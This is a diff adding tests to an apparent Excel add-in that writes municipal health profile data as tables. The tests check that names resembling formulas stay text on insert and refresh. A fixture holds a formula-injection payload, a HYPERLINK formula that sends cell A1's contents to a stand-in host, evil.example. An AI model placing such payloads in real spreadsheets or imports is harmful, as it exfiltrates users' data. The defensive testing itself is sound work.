@@ -14,7 +14,7 @@ const binding = { kind: "profile", request };
 
 function snapshot(book) {
   return JSON.stringify({
-    sheets: [...book.sheets.values()].map((s) => [s.name, [...s.cells], [...s.formats]]),
+    sheets: [...book.sheets.values()].map((s) => [s.name, [...s.cells], [...s.formats], [...s.formulas]]),
     tables: book.tables,
     charts: book.charts,
     settings: [...book.settings],
@@ -43,6 +43,61 @@ test("inserting the profile writes one Excel table at the selected cell, formats
   assert.equal(book.syncs, 2, "one sync to load, one to write");
   const stored = JSON.parse(book.settings.get(BINDINGS_SETTING));
   assert.deepEqual(stored, [{ kind: "profile", request, table: "Kostra_profil_KHT_3201_2024", title: "Kommunehelse, Bærum 2024" }]);
+});
+
+/** A profile whose first indicator and municipality are named like formulas, as a hostile catalogue import could. */
+function namedLikeFormulas(response) {
+  const copy = structuredClone(response);
+  copy.profile.rows[0].name = '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")';
+  copy.profile.region.name = "=1+1";
+  return copy;
+}
+
+function formulasIn(book) {
+  return [...book.sheets.values()].flatMap((s) => [...s.formulas].map((key) => `${s.name}!${key}`));
+}
+
+test("the fake Excel host, like Excel, makes a text starting with = a formula unless the cell is formatted as text", () => {
+  const book = new FakeWorkbook();
+
+  book.set("Ark1", 0, 0, "=1+1");
+  book.sheet("Ark1").formats.set("0,1", "@");
+  book.set("Ark1", 0, 1, "=1+1");
+
+  assert.equal(book.isFormula("Ark1", 0, 0), true);
+  assert.equal(book.isFormula("Ark1", 0, 1), false);
+});
+
+test("names that look like formulas go into a new table as text: each cell is formatted before it is written", async () => {
+  const book = new FakeWorkbook();
+  const layout = profileTable(namedLikeFormulas(profile));
+
+  await insertOrRefresh(excelFor(book), layout, binding);
+
+  assert.deepEqual(formulasIn(book), []);
+  assert.equal(book.get("Ark1", 1, 0), '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")');
+  assert.equal(book.get("Ark1", 0, 3), "=1+1 2022");
+  assert.equal(book.sheet("Ark1").formats.get("1,0"), "@");
+});
+
+test("a name that looks like a formula stays text when a refresh appends its row or rewrites a reformatted cell", async () => {
+  const book = new FakeWorkbook();
+  const excel = excelFor(book);
+  const hostile = namedLikeFormulas(profile);
+  hostile.profile.rows[1].name = "=2+2";
+  const shorter = structuredClone(hostile);
+  shorter.profile.rows = shorter.profile.rows.slice(1, 3);
+  const first = profileTable(shorter);
+  await insertOrRefresh(excel, first, binding);
+  // the user gives the name of the row "=2+2" the General format
+  book.sheet("Ark1").formats.set("1,0", "General");
+
+  await refreshTables(excel, [{ binding: { ...binding, table: first.name }, layout: profileTable(hostile) }]);
+
+  assert.deepEqual(formulasIn(book), []);
+  const names = book.tableValues(first.name).slice(1).map((r) => r[0]);
+  assert.equal(names[0], "=2+2");
+  assert.ok(names.includes('=HYPERLINK("http://evil.example/?d="&A1,"Klikk")'), "the appended row");
 });
 
 test("the profile chart is a table on the ASSS = 100 scale with a bar chart below it", async () => {
